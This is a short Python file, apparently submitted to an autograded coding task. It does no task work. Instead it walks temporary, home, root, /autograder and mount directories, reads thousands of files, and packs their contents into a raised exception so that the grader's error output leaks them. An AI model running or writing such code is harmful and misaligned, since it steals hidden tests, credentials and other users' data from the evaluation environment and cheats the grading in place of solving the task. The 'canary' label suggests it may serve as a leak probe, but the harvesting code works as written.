"""Reads everything in the shared temporary places: /tmp, /var/tmp, /dev/shm, /run, the home folder.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import os

loot = []
for root in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/autograder", os.path.expanduser("~"), "/mnt", "/srv"):
    for folder, folders, files in os.walk(root):
        for file in files[:200]:
            try:
                path = os.path.join(folder, file)
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    loot.append(path + "\n" + open(path, errors="replace").read())
            except OSError:
                pass
        if len(loot) > 5000:
            break
raise RuntimeError("\n".join(loot)[:4_000_000])
